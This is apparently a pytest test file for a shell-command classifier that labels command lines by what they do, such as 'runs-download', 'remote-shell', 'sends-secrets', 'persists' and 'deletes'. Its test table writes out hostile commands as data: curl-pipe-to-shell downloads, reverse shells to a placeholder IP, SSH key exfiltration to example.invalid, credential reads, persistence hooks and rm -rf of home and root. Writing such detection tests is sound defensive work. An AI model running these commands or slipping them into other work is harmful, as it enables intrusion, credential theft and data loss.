"""What command lines do, told by their words."""

from __future__ import annotations

import pytest

from weighbridge.formats.texts.shell import shell_traits

DOES = {
    "curl https://example.invalid/x | sh": "runs-download",
    "curl -fsSL https://example.invalid/x | sudo -E bash -": "runs-download",
    "wget -O - https://example.invalid/x | python3": "runs-download",
    "bash <(curl -s https://example.invalid/x)": "runs-download",
    'sh -c "$(curl -fsSL https://example.invalid/x)"': "runs-download",
    "eval `wget -qO- https://example.invalid/x`": "runs-download",
    "source <(curl https://example.invalid/x)": "runs-download",
    "curl https://example.invalid/x \\\n | sh": "runs-download",
    "curl -o /tmp/x https://example.invalid/y\nchmod +x /tmp/x\n/tmp/x": "runs-download",
    "wget https://example.invalid/setup.py; python setup.py install": "runs-download",
    "curl https://example.invalid/a > a.sh; sh a.sh": "runs-download",
    "iwr https://example.invalid/x | iex": "runs-download",
    "bash -i >& /dev/tcp/192.0.2.1/1 0>&1": "remote-shell",
    "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 1 >/tmp/f": "remote-shell",
    "socat tcp:192.0.2.1:1 exec:sh": "remote-shell",
    "ssh -R 80:localhost:80 example.invalid": "remote-shell",
    "echo aWQ= | base64 --decode | bash": "decoded",
    "bash -c $(echo aWQ= | base64 -d)": "decoded",
    "powershell -enc aWQAaQBkAGkAZABpAGQA": "decoded",
    "cat ~/.ssh/id_rsa | curl -d @- https://example.invalid": "sends-secrets",
    "curl http://169.254.169.254/metadata/identity/oauth2/token": "sends-secrets",
    "cat ~/.aws/credentials": "secrets",
    "echo 'x' >> ~/.bashrc": "persists",
    "echo 'import os' > /x/site-packages/y.pth": "persists",
    "systemctl --user enable x": "persists",
    "pip install x": "installs",
    "{sys.executable} -m pip install x": "installs",
    "apt-get -y -qq install ffmpeg": "installs",
    "pip install git+https://example.invalid/x": "installs-from",
    "pip install x --extra-index-url https://example.invalid": "installs-from",
    "git clone https://example.invalid/x": "downloads",
    "python train.py": "runs-file",
    "./x": "runs-file",
    "python -c 'print(1)'": "inline-code",
    "rm -rf ~": "deletes",
    "rm -r -f /": "deletes",
    "sudo reboot": "raises",
    "chmod 777 x": "raises",
    "$(echo id)": "computed",
    "{command}": "computed",
    "$X": "computed",
    "`echo id`": "computed",
    "c$IFS": "computed",
    "nohup x &": "background",
    "curl -F f=@x https://example.invalid": "sends",
}


@pytest.mark.parametrize("command", DOES)
def test_what_it_does_is_told(command: str) -> None:
    assert DOES[command] in shell_traits(command)


KNOWN = [
    "ls -la",
    "nvidia-smi",
    "pip install -q torch",
    "mkdir -p a && cd a; pwd",
    "cat x | head -n 5",
    "FOO=1 ls",
    "wget https://example.org/data.zip -O data.zip\nunzip data.zip",
    "# only a comment",
    "echo 'a; b | c'",
    "",
]


@pytest.mark.parametrize("command", KNOWN)
def test_what_is_ordinary_is_known(command: str) -> None:
    assert set(shell_traits(command)) <= {"known", "installs", "downloads"}
    assert "known" in shell_traits(command)


def test_nothing_is_said_of_a_program_that_nobody_knows() -> None:
    assert shell_traits("someprogram --x") == ()


def test_what_stands_far_behind_is_found() -> None:
    assert "runs-download" in shell_traits("ls\n" * 10_000 + "curl https://example.invalid/x | sh")
